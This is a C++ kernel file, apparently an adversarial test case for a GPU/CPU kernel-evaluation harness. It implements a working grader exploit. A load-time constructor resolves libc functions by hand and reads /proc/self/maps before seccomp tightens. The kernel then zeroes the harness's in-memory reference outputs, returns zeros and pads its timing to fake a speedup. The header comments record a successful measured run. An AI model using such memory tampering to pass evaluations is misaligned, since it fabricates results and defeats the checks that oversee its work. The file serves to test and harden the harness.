// problem: silu
// expect: wrong_result
// reason: exceeds tolerance | NaN
//
// Attack: zero the harness's reference outputs, then return zeros.
//
// The harness reads every case's double reference into its own heap before it
// dlopens the kernel, in the same process. Each reference is a
// std::vector<double> of M*N elements (1 MiB for silu), far above malloc's
// mmap threshold, so each is its own mmapped chunk: page aligned, size word
// at +8 equal to round_up(8*M*N + 16, 4096) | IS_MMAPPED, data at +16.
//   1. A load-time constructor (runs inside dlopen, while seccomp stage 1 still
//      allows read-only opens) resolves open/read/close from libc's dynamic
//      symbol table (found by walking back from &malloc to libc's ELF header)
//      and reads /proc/self/maps: it keeps the anonymous read-write regions.
//   2. The first call (M, N now known) walks those regions page by page and
//      zeroes every chunk whose size word is exactly that of an M*N-double
//      vector: all references of all cases, including those still to come.
//   3. Every call writes zeros to `out` and spins a fixed number of
//      iterations so the time looks like a fast but plausible kernel.
// CheckOutputs then sees den == 0 and takes rel = sqrt(sum got^2) = 0; the
// sampled check asks |0 - 0| <= 1e-3 * (0 + 1e-30): passes too.
// When nothing can be found (no maps: open fails, as under Landlock) the
// kernel still returns zeros, and the relative L2 error is exactly 1.
//
// Measured against today's harness (see NOTES.md):
//   cd /work/main && /tmp/old-eval/accelopt-eval run --problem tests/evaluators/problems/silu
//     --kernel /work/attacks-A/attack_overwrite_reference.cpp --cache-dir /tmp/old-eval-cache-A -o json   (one command line)
//   status ok, max_rel_error 0, median 46.9 us vs baseline.cpp 262-267 us side by
//   side (a fake ~5.6x speedup), percent_of_peak 8.4.
#include <elf.h>
#include <fcntl.h>
#include <link.h>

#include <cstdint>
#include <cstdlib>
#include <cstring>

namespace {

// ---- libc symbols without naming them to the linker ------------------------
struct Lib { uintptr_t base = 0; const ElfW(Sym)* sym = nullptr; const char* str = nullptr; const uint32_t* gnu = nullptr; };

bool Same(const char* a, const char* b) {
  while (*a && *a == *b) { ++a; ++b; }
  return *a == *b;
}

bool OpenLib(const void* inside, Lib& L) {
  uintptr_t p = reinterpret_cast<uintptr_t>(inside) & ~uintptr_t{4095};
  for (int i = 0; i < 4096 && !L.base; ++i, p -= 4096) {
    const auto* eh = reinterpret_cast<const ElfW(Ehdr)*>(p);
    if (std::memcmp(eh->e_ident, ELFMAG, SELFMAG) == 0 && eh->e_type == ET_DYN && eh->e_machine == EM_X86_64) L.base = p;
  }
  if (!L.base) return false;
  const auto* eh = reinterpret_cast<const ElfW(Ehdr)*>(L.base);
  const auto* ph = reinterpret_cast<const ElfW(Phdr)*>(L.base + eh->e_phoff);
  for (int i = 0; i < eh->e_phnum; ++i) {
    if (ph[i].p_type != PT_DYNAMIC) continue;
    for (auto* d = reinterpret_cast<const ElfW(Dyn)*>(L.base + ph[i].p_vaddr); d->d_tag != DT_NULL; ++d) {
      uintptr_t v = d->d_un.d_ptr;
      if (v < L.base) v += L.base;
      if (d->d_tag == DT_SYMTAB) L.sym = reinterpret_cast<const ElfW(Sym)*>(v);
      if (d->d_tag == DT_STRTAB) L.str = reinterpret_cast<const char*>(v);
      if (d->d_tag == DT_GNU_HASH) L.gnu = reinterpret_cast<const uint32_t*>(v);
    }
  }
  return L.sym && L.str && L.gnu;
}

void* Sym(const Lib& L, const char* name) {
  if (!L.gnu) return nullptr;
  uint32_t h = 5381;
  for (const char* s = name; *s; ++s) h = h * 33 + static_cast<unsigned char>(*s);
  const uint32_t nb = L.gnu[0], off = L.gnu[1], bloom = L.gnu[2];
  const uint32_t* buckets = L.gnu + 4 + 2 * bloom;
  const uint32_t* chain = buckets + nb;
  for (uint32_t i = buckets[h % nb]; i >= off && i != 0; ++i) {
    const uint32_t c = chain[i - off];
    const ElfW(Sym)& s = L.sym[i];
    if ((c | 1) == (h | 1) && s.st_shndx != SHN_UNDEF && Same(L.str + s.st_name, name)) {
      void* a = reinterpret_cast<void*>(L.base + s.st_value);
      if (ELF64_ST_TYPE(s.st_info) == STT_GNU_IFUNC) a = reinterpret_cast<void* (*)()>(a)();
      return a;
    }
    if (c & 1) break;
  }
  return nullptr;
}

// ---- anonymous read-write regions, from /proc/self/maps at load time -------
struct Region { uintptr_t lo, hi; };
Region g_regions[256];
int g_nregions = 0;

uintptr_t Hex(const char*& p) {
  uintptr_t v = 0;
  for (;; ++p) {
    char c = *p;
    if (c >= '0' && c <= '9') v = v * 16 + (c - '0');
    else if (c >= 'a' && c <= 'f') v = v * 16 + (c - 'a' + 10);
    else return v;
  }
}

__attribute__((constructor)) void ReadMaps() {
  Lib libc;
  void* (*volatile m)(size_t) = &std::malloc;
  if (!OpenLib(reinterpret_cast<const void*>(m), libc)) return;
  auto open_ = reinterpret_cast<int (*)(const char*, int, ...)>(Sym(libc, "open"));
  auto read_ = reinterpret_cast<long (*)(int, void*, size_t)>(Sym(libc, "read"));
  auto close_ = reinterpret_cast<int (*)(int)>(Sym(libc, "close"));
  if (!open_ || !read_ || !close_) return;
  int fd = open_("/proc/self/maps", O_RDONLY);
  if (fd < 0) return;  // fail soft: nothing to overwrite
  static char text[1 << 18];
  size_t n = 0;
  for (long r; n + 1 < sizeof text && (r = read_(fd, text + n, sizeof text - 1 - n)) > 0;) n += static_cast<size_t>(r);
  close_(fd);
  text[n] = 0;
  for (const char* p = text; *p && g_nregions < 256;) {
    const char* line = p;
    while (*p && *p != '\n') ++p;
    const char* end = p;
    if (*p) ++p;
    const char* tok[6] = {};
    int nt = 0;
    for (const char* s = line; s < end && nt < 6; ++s)
      if (*s != ' ' && (s == line || s[-1] == ' ')) tok[nt++] = s;
    if (nt < 5 || tok[1][0] != 'r' || tok[1][1] != 'w' || tok[4][0] != '0' ||
        (tok[4] + 1 != end && tok[4][1] != ' ')) continue;
    // "lo-hi rw-p offset dev inode [path]": anonymous when inode is 0; keep [heap] too.
    if (nt == 6 && std::memcmp(tok[5], "[heap]", 6) != 0) continue;
    const char* q = line;
    uintptr_t lo = Hex(q);
    ++q;
    uintptr_t hi = Hex(q);
    g_regions[g_nregions++] = {lo, hi};
  }
}

void ZeroReferences(int64_t elems) {
  const uintptr_t want = ((static_cast<uintptr_t>(elems) * 8 + 16 + 4095) & ~uintptr_t{4095}) | 2;
  for (int r = 0; r < g_nregions; ++r) {
    for (uintptr_t p = g_regions[r].lo; p + 4096 <= g_regions[r].hi;) {
      const uintptr_t size = reinterpret_cast<const uintptr_t*>(p)[1];
      if (size == want && reinterpret_cast<const uintptr_t*>(p)[0] == 0 && p + (size & ~uintptr_t{7}) <= g_regions[r].hi) {
        std::memset(reinterpret_cast<void*>(p + 16), 0, static_cast<size_t>(elems) * 8);
        p += size & ~uintptr_t{7};
      } else {
        p += 4096;
      }
    }
  }
}

}  // namespace

extern "C" void silu(const float* x, float* out, int64_t M, int64_t N) {
  static bool done = false;
  if (!done) { done = true; ZeroReferences(M * N); }
  std::memset(out, 0, sizeof(float) * static_cast<size_t>(M * N));
  volatile uint64_t sink = 0;  // fixed padding: a fast but not impossible time
  uint64_t s = static_cast<uint64_t>(M * N);
  for (int i = 0; i < 40000; ++i) s = s * 6364136223846793005ULL + 1442695040888963407ULL;
  sink = s;
  (void)x;
}
